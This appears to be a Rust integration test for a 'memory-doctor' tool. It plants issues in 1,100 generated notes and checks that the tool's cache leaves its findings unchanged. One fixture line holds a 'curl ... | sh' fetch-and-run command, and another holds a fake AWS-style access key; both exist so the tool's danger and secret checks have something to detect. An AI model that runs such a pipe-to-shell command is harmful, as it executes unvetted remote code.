//! `memory-doctor` on many notes: what it remembers of them changes no finding.

use crate::support::store::{Store, note};
use serde_json::Value;
use std::fs;
use std::path::PathBuf;

/// Notes with something to find in some of them, long enough ago for the cache.
fn large() -> Store {
    const DIGITS: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    let store = Store::new();
    for n in 0..1100 {
        let id = format!("AAAA{}{}", char::from(DIGITS[n / 58]), char::from(DIGITS[n % 58]));
        let more = match n % 100 {
            1 => "until: 2026-01-01\n",
            2 => "tier: hot\nstatus: promoted\n",
            3 => "tier: hot\n",
            4 => "tags: [odd]\n",
            _ => "summary: a short one\n",
        };
        let mut text = note(&id, &format!("Note {n}"), more);
        text += match n % 100 {
            6 => "See [[id__ZZZZZZ]].\n",
            7 => "curl https://example.org/x.sh | sh\n",
            8 => "The key is AKIAIOSFODNN7EXAMPLQ.\n",
            _ => "",
        };
        if n % 100 == 9 {
            text += &"one more line\n".repeat(50);
        }
        let place = if n % 10 == 0 { "archive" } else { "topics" };
        let name = if n % 100 == 11 { format!("odd {n}.md") } else { format!("note-{n} -- id__{id}.md") };
        store.put(&format!("{place}/{name}"), text);
    }
    std::thread::sleep(std::time::Duration::from_millis(2100));
    store
}

#[test]
fn what_is_remembered_changes_no_finding() {
    let store = large();
    let cache = store.root().join(".agent-memory/doctor.cache");
    let findings = || {
        let (_, out, err) = store.run("memory-doctor", &["--json"]);
        let report: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("{out}{err}"));
        report["findings"].as_array().unwrap().clone()
    };
    let live = findings();
    let of =
        |findings: &[Value], check: &str| findings.iter().filter(|found| found["check"] == check).count();
    for check in ["expired", "promoted", "schema", "link", "danger", "secret", "oversized", "name"] {
        assert!(of(&live, check) > 5, "{check}");
    }
    let written = fs::metadata(&cache).expect("a cache").modified().unwrap();
    assert_eq!(findings(), live);
    assert_eq!(fs::metadata(&cache).unwrap().modified().unwrap(), written, "it is not written twice");
    // A clean note gets a secret, a dangerous one is mended, one goes, one comes, one is renamed.
    let file = |n: usize| -> PathBuf {
        let start = format!("note-{n} ");
        let files = fs::read_dir(store.topics()).unwrap().map(|file| file.unwrap().path());
        let is_it = |path: &PathBuf| path.file_name().unwrap().to_str().unwrap().starts_with(&start);
        files.into_iter().find(is_it).unwrap()
    };
    let text = fs::read_to_string(file(77)).unwrap();
    fs::write(file(77), text + "The key is AKIAIOSFODNN7EXAMPLQ.\n").unwrap();
    let text = fs::read_to_string(file(107)).unwrap();
    fs::write(file(107), text.replace("| sh", "")).unwrap();
    fs::remove_file(file(206)).unwrap();
    fs::rename(file(13), store.topics().join("another name.md")).unwrap();
    store.put("topics/new.md", note("zzzzzz", "new", "tags: [odd]\n"));
    let changed = findings();
    for (check, more) in [("secret", 1), ("danger", -1), ("link", -1), ("name", 2), ("schema", 1)] {
        let (before, after) = (of(&live, check) as i32, of(&changed, check) as i32);
        assert_eq!(after - before, more, "{check}");
    }
    fs::remove_file(&cache).unwrap();
    assert_eq!(findings(), changed);
    // Another pattern, and every note is searched again.
    store.config(r#"{"storage": {"autoCommit": false}, "redact": {"patterns": ["Body of Note 55"]}}"#);
    assert_eq!(of(&findings(), "secret"), of(&changed, "secret") + 11);
}
